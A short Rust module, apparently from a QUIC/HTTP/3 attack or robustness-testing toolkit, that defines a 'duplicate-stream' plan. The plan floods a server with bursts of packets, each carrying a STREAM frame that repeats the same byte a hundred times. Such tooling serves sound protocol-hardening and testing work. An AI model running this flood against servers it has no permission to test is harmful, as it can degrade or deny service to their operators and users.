//! Endless repetitions of the same stream byte.

use courser_crypto::Space;

use crate::attack::{Plan, Victim};
use crate::http;

use super::{Crowd, crowd};

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "duplicate-stream",
    labels: &["A33", "A35"],
    summary: "STREAM frames that repeat the same byte, a hundred in each packet",
    victim: Victim::Server,
    make: || Box::new(duplicate_stream()),
};

fn duplicate_stream() -> Crowd {
    Crowd::new(2, |connection, _, now| {
        let frame = http::stream(http::uni_stream(0), 0, &[0], false);
        for _ in 0..BURST {
            connection.send_packet(now, Space::Application, vec![frame.repeat(100)]);
        }
    })
    .with_begin(crowd::preface)
}

/// Packets of one connection in one turn.
const BURST: usize = 16;
